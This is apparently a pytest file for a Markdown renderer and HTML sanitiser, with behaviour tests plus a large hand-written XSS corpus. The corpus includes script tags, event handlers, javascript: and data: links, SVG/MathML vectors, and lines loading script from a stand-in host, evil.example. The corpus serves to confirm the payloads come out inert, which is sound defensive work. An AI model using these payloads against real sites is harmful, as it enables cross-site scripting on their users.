"""learning.markdown.render_markdown: behaviour, plus an XSS corpus checked on parsed output.

No database and no Django needed: runs under pytest-django, and without Django via
``python -m pytest tests/learning/test_markdown.py -p no:django --noconftest`` (the
suite-wide conftest has a Django cache fixture, and plain ``pytest`` does not put the
project root on sys.path unless pytest-django does).
"""

from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from learning.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    TABLE_CLASSES,
    _sanitise,
    render_markdown,
)

ROOT = Path(__file__).resolve().parents[2]

# The allowlist as the issue states it, one category at a time, with the tags each
# category needs to be written at all (a paragraph's line break, a code block's <pre>).
SPEC = {
    "paragraphs": {"p", "br"},
    "emphasis": {"em", "strong"},
    "lists": {"ul", "ol", "li"},
    "headings h3-h5": {"h3", "h4", "h5"},
    "blockquote": {"blockquote"},
    "code": {"code", "pre"},
    "tables": {"table", "thead", "tbody", "tr", "th", "td"},
    "links": {"a"},
}
SPEC_TAGS = set().union(*SPEC.values())
LINK_ATTRS = {"href", "rel"}
# The only attribute a table part may carry: its own GOV.UK class, never another value.
GOVUK_TABLE_CLASSES = {
    "table": "govuk-table",
    "thead": "govuk-table__head",
    "tbody": "govuk-table__body",
    "tr": "govuk-table__row",
    "th": "govuk-table__header",
    "td": "govuk-table__cell",
}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Opening tags that must never appear as markup (escaped text like "&lt;svg" is fine).
FORBIDDEN_MARKUP = (
    "<script", "<img", "<svg", "<iframe", "<style", "<math", "<object", "<embed", "<base",
    "<meta", "<form", "<input", "<button", "<link", "<frame", "<video", "<audio", "<!--",
)  # fmt: skip


class _Collector(HTMLParser):
    """Records everything a browser-like parser would see as markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)  # attribute values arrive entity-decoded
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.end_tags: list[str] = []
        self.other: list[str] = []  # comments, doctypes, CDATA, processing instructions

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self.end_tags.append(tag)

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment:{data}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"decl:{decl}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"pi:{data}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"unknown:{data}")


def parse(output: str) -> _Collector:
    collector = _Collector()
    collector.feed(output)
    collector.close()
    return collector


def href_scheme(href: str) -> str:
    # Browsers ignore whitespace and control characters inside a scheme.
    cleaned = re.sub(r"[\x00-\x20\x7f-\x9f\s]+", "", href).lower()
    return urlsplit(cleaned).scheme


def assert_safe(output: str) -> None:
    doc = parse(output)
    assert doc.other == [], f"non-element markup survived: {doc.other}"
    for tag in [name for name, _ in doc.tags] + doc.end_tags:
        assert tag in SPEC_TAGS, f"<{tag}> is not allowed in {output!r}"
    for tag, attrs in doc.tags:
        names = {name for name, _ in attrs}
        assert not any(name.startswith("on") for name in names), output
        if tag in GOVUK_TABLE_CLASSES and attrs:
            assert attrs == [("class", GOVUK_TABLE_CLASSES[tag])], f"<{tag}> has {attrs}"
            continue
        if tag != "a":
            assert not attrs, f"<{tag}> has attributes {attrs}"
            continue
        assert names <= LINK_ATTRS, f"unexpected link attributes {attrs}"
        values = dict(attrs)
        assert "href" in values, "links without an href are unwrapped to text"
        assert href_scheme(values["href"] or "") in SAFE_SCHEMES, values["href"]
        assert values.get("rel") == "nofollow noopener", f"rel missing or wrong: {attrs}"
    lowered = output.lower()
    for marker in FORBIDDEN_MARKUP:
        assert marker not in lowered, f"{marker} in {output!r}"


# --- Behaviour ---------------------------------------------------------------------------


def test_allowlist_matches_spec() -> None:
    assert set(ALLOWED_TAGS) == SPEC_TAGS


@pytest.mark.parametrize("text", ["", " ", "\n\n\t  \n"])
def test_empty_or_whitespace_input_returns_empty_string(text: str) -> None:
    assert render_markdown(text) == ""


def test_paragraphs_and_emphasis() -> None:
    html = render_markdown("First *para* with **bold**.\n\nSecond  \nline")
    assert html == (
        "<p>First <em>para</em> with <strong>bold</strong>.</p>\n<p>Second<br>\nline</p>"
    )


def test_allowlist_has_nothing_beyond_the_spec() -> None:
    assert "hr" not in ALLOWED_TAGS
    assert ALLOWED_ATTRIBUTES == {"a": ["href", "rel"]}


def test_lists_and_no_horizontal_rule() -> None:
    html = render_markdown("- one\n- two\n\n---\n\n1. first\n2. second")
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<ol>\n<li>first</li>\n<li>second</li>\n</ol>" in html
    assert "<hr" not in html


def test_ordered_list_start_number_is_dropped_with_other_attributes() -> None:
    assert render_markdown("3. third\n4. fourth").startswith("<ol>\n<li>third</li>")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("# Title", "<h3>Title</h3>"),
        ("## Sub", "<h4>Sub</h4>"),
        ("### Third", "<h5>Third</h5>"),
        ("#### Fourth", "<h5>Fourth</h5>"),
        ("###### Sixth", "<h5>Sixth</h5>"),
        ("Setext\n======", "<h3>Setext</h3>"),
        ("Setext\n------", "<h4>Setext</h4>"),
        ("> # Quoted", "<blockquote>\n<h3>Quoted</h3>\n</blockquote>"),
    ],
)
def test_headings_are_demoted(source: str, expected: str) -> None:
    assert render_markdown(source) == expected


def test_blockquote() -> None:
    assert render_markdown("> a thought") == "<blockquote>\n<p>a thought</p>\n</blockquote>"


def test_inline_and_fenced_code_escape_their_content() -> None:
    assert render_markdown("use `<b>` here") == "<p>use <code>&lt;b&gt;</code> here</p>"
    html = render_markdown("```python\nif a < b:\n    print('<i>')\n```")
    # The language class Python-Markdown adds is stripped with every other attribute.
    assert html == "<pre><code>if a &lt; b:\n    print('&lt;i&gt;')\n</code></pre>"


def test_code_is_not_linkified() -> None:
    assert render_markdown("`https://example.com`") == "<p><code>https://example.com</code></p>"


def test_table_has_govuk_classes_and_no_alignment_styles() -> None:
    html = render_markdown("| Area | Score |\n|:-----|------:|\n| MCA | 3 |")
    assert html == (
        '<table class="govuk-table">\n<thead class="govuk-table__head">\n'
        '<tr class="govuk-table__row">\n<th class="govuk-table__header">Area</th>\n'
        '<th class="govuk-table__header">Score</th>\n</tr>\n</thead>\n'
        '<tbody class="govuk-table__body">\n<tr class="govuk-table__row">\n'
        '<td class="govuk-table__cell">MCA</td>\n<td class="govuk-table__cell">3</td>\n'
        "</tr>\n</tbody>\n</table>"
    )
    assert_safe(html)


def test_table_classes_are_the_fixed_govuk_ones() -> None:
    assert TABLE_CLASSES == GOVUK_TABLE_CLASSES


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ('<table class="x"><tr><td>a</td></tr></table>', "<table><tbody><tr><td>a</td></tr>"),
        ('<td class="govuk-table__header">a</td>', "a"),
        (
            '<table><tr class="govuk-table__row govuk-x"><td>a</td></tr></table>',
            "<tr><td>a</td></tr>",
        ),
        ('<p class="govuk-table">a</p>', "<p>a</p>"),
        ('<a href="https://e.org" class="govuk-table">a</a>', 'rel="nofollow noopener">a</a>'),
    ],
)
def test_sanitiser_keeps_only_each_table_parts_own_class(raw: str, expected: str) -> None:
    output = _sanitise(raw)
    assert expected in output
    assert 'class="x"' not in output and "govuk-x" not in output
    assert_safe(output)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "[board](https://example.org/sab)",
            '<p><a href="https://example.org/sab" rel="nofollow noopener">board</a></p>',
        ),
        (
            '[plain](http://example.org "The title")',
            # A link's title is not on the allowlist: the link stays, the title goes.
            '<p><a href="http://example.org" rel="nofollow noopener">plain</a></p>',
        ),
        (
            "[email us](mailto:team@example.org)",
            '<p><a href="mailto:team@example.org" rel="nofollow noopener">email us</a></p>',
        ),
        (
            "[ref][r]\n\n[r]: https://example.org/r",
            '<p><a href="https://example.org/r" rel="nofollow noopener">ref</a></p>',
        ),
    ],
)
def test_links_keep_safe_protocols_and_get_rel(source: str, expected: str) -> None:
    assert render_markdown(source) == expected


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "see https://example.org/a?b=1&c=2 now",
            '<p>see <a href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener">'
            "https://example.org/a?b=1&amp;c=2</a> now</p>",
        ),
        (
            "or www.example.org",
            '<p>or <a href="http://www.example.org" rel="nofollow noopener">'
            "www.example.org</a></p>",
        ),
        (
            "mail team@example.org",
            '<p>mail <a href="mailto:team@example.org" rel="nofollow noopener">'
            "team@example.org</a></p>",
        ),
        (
            "<https://example.org>",
            '<p><a href="https://example.org" rel="nofollow noopener">https://example.org</a></p>',
        ),
    ],
)
def test_bare_urls_are_linkified_with_the_same_rel(source: str, expected: str) -> None:
    assert render_markdown(source) == expected


def test_markdown_email_autolink_is_entity_obfuscated_but_safe() -> None:
    html = render_markdown("<team@example.org>")
    doc = parse(html)
    assert doc.tags == [
        ("p", []),
        ("a", [("href", "mailto:team@example.org"), ("rel", "nofollow noopener")]),
    ]


@pytest.mark.parametrize("source", ["[home](/)", "[top](#top)", "[rel](notes/1)", "[x](//e.com)"])
def test_links_without_an_explicit_safe_scheme_become_text(source: str) -> None:
    assert "<a" not in render_markdown(source)


def test_images_become_links_to_the_image() -> None:
    assert render_markdown("![chart](https://example.org/c.png)") == (
        '<p><a href="https://example.org/c.png" rel="nofollow noopener">chart</a></p>'
    )
    assert render_markdown("![](https://example.org/c.png)") == (
        '<p><a href="https://example.org/c.png" rel="nofollow noopener">'
        "https://example.org/c.png</a></p>"
    )


def test_raw_html_is_shown_as_the_text_that_was_typed() -> None:
    assert render_markdown("I <b>felt</b> <3 & <em>ok</em>") == (
        "<p>I &lt;b&gt;felt&lt;/b&gt; &lt;3 &amp; &lt;em&gt;ok&lt;/em&gt;</p>"
    )
    assert render_markdown("<div>\n*still markdown*\n</div>") == (
        "<p>&lt;div&gt;\n<em>still markdown</em>\n&lt;/div&gt;</p>"
    )


def test_concurrent_calls_do_not_interfere() -> None:
    # bleach's Cleaner is not thread-safe; the renderer must still be, e.g. under
    # threaded gunicorn workers.
    sources = [
        f"# Entry {i}\n\nSee https://example.org/{i} and *point {i}*.\n\n| n |\n|---|\n| {i} |"
        for i in range(200)
    ]
    expected = [render_markdown(source) for source in sources]
    with ThreadPoolExecutor(max_workers=8) as pool:
        assert list(pool.map(render_markdown, sources)) == expected


def test_bleach_is_only_imported_by_the_renderer() -> None:
    # bleach is security-maintenance only; keeping it behind render_markdown means it can
    # be swapped by editing one file.
    skip = {".venv", "node_modules", "var", ".git"}
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not skip.intersection(path.relative_to(ROOT).parts)
        and path != ROOT / "learning" / "markdown.py"
        and path != Path(__file__).resolve()
        and re.search(r"^\s*(import|from)\s+bleach\b", path.read_text(), re.MULTILINE)
    ]
    assert offenders == []


# --- XSS corpus ---------------------------------------------------------------------------
# Hand-written; each is rendered and the parsed output is checked by assert_safe().

XSS_PAYLOADS: list[str] = [
    # Script elements in assorted spellings and encodings.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(document.domain)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>import('//evil.example')</script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\<script\\>alert(1)\\</script\\>",
    "<script>\n\n# heading inside\n\n</script>",
    "    <script>alert('indented code')</script>",
    "```\n<script>alert('fenced')</script>\n```",
    "`<script>alert('inline')</script>`",
    "> <script>alert('quoted')</script>",
    "- <script>alert('listed')</script>",
    "| a |\n|---|\n| <script>alert('cell')</script> |",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert('hover')\">hover me</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<marquee onstart=alert(1)>scroll</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "*<b onmouseover=alert(1)>emphasis</b>*",
    # Raw anchors with dangerous schemes.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    # Markdown inline links with dangerous schemes.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106;&#0000097;vascript:alert(1))",
    "[x](&#x6a&#x61vascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%20javascript:alert(1))",
    "[x](javascript://example.com/%0Aalert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD4=)",
    "[x](&#100;ata:text/html,x)",
    "[x](da\tta:text/html,x)",
    "[x](livescript:alert(1))",
    "[x](file:///etc/passwd)",
    "[**bold** x](javascript:alert(1))",
    "[x](http://ok.example)(javascript:alert(1))",
    # Autolinks and reference-style links.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<mailto:x@example.org?body=<script>>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    '[x][evil]\n\n[evil]: JaVaScRiPt:alert(1) "title"',
    "[x]\n\n[x]: data:text/html,boom",
    "[x][1]\n\n[1]: &#106;avascript:alert(1)",
    # Image syntax: no <img> may survive whatever the URL.
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.gif)",
    '![x](https://evil.example/p.png "t" onerror=alert(1))',
    "![x][1]\n\n[1]: javascript:alert(1)",
    "![x][1]\n\n[1]: http://evil.example/pixel.gif",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![img](http://evil.example/a.png)](javascript:alert(1))",
    # Title attribute break-outs.
    '[x](http://a.example "title" onmouseover="alert(1)")',
    '[x](http://a.example "title\\" onmouseover=\\"alert(1)")',
    "[x](http://a.example 'a' onclick='alert(1)')",
    '[x](http://a.example "a&quot; onfocus=&quot;alert(1)")',
    '[x](http://a.example "><script>alert(1)</script>")',
    '[x][1]\n\n[1]: http://a.example "t" onmouseover="alert(1)"',
    # URL attribute break-outs.
    '[x](http://a.example/"onmouseover="alert(1))',
    "[x](http://a.example/'><script>alert(1)</script>)",
    '[x](<http://a.example/"onerror=alert(1)>)',
    '<http://a.example/"onmouseover="alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "www.a.example/?q=<img src=x onerror=alert(1)>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<math href=javascript:alert(1)>click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # Embedding, navigation and form elements.
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,alert(1)>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<isindex action=javascript:alert(1) type=image>",
    # Styles.
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import 'javascript:alert(1)';</STYLE>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<span style=behavior:url(evil.htc)>x</span>",
    '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
    # Malformed, unclosed and nested-quote markup.
    "<img src=x onerror=alert(1)",
    "<script>alert(1)",
    '<a href="javascript:alert(1)',
    "<div <script>alert(1)</script>>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' onerror='alert(\"1\")'>",
    '<a href="http://ok.example""onclick=alert(1)>x</a>',
    "<</p>iframe src=javascript:alert(1)>",
    '<p title="</p><script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    # Comments, CDATA, declarations.
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    # Template-injection-like strings (must come out as inert text).
    "{{ constructor.constructor('alert(1)')() }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{{'<script>alert(1)</script>'|safe}}",
]


def _payload_id(index: int, payload: str) -> str:
    return f"{index:03d}-" + re.sub(r"[^A-Za-z0-9]+", "_", payload).strip("_")[:40]


def test_corpus_is_large_and_distinct() -> None:
    assert len(XSS_PAYLOADS) >= 100
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize(
    "unsafe",
    [
        "<img src=x>",
        "<p onclick=x>a</p>",
        '<a href="javascript:alert(1)" rel="nofollow noopener">a</a>',
        '<a href="java\tscript:alert(1)" rel="nofollow noopener">a</a>',
        '<a href="https://e.org">no rel</a>',
        '<a href="https://e.org" rel="nofollow noopener" target="_blank">a</a>',
        '<p class="x">a</p>',
        '<td class="govuk-table">a</td>',
        '<table class="govuk-table x">a</table>',
        "<!-- c -->",
        "<h1>a</h1>",
    ],
)
def test_checker_rejects_unsafe_html(unsafe: str) -> None:
    # Guards the guard: assert_safe must actually fail on the things it looks for.
    with pytest.raises(AssertionError):
        assert_safe(unsafe)


PAYLOAD_PARAMS = [
    pytest.param(p, id=_payload_id(i, p)) for i, p in enumerate(XSS_PAYLOADS, start=1)
]


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS)
def test_xss_payload_is_neutralised(payload: str) -> None:
    output = render_markdown(payload)
    assert_safe(output)
    assert render_markdown(payload) == output  # deterministic


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS)
def test_sanitiser_alone_neutralises_raw_payload(payload: str) -> None:
    # Defence in depth: Markdown already escapes raw HTML, but the sanitiser layer must
    # hold on its own too (and any replacement for bleach must pass this).
    assert_safe(_sanitise(payload))
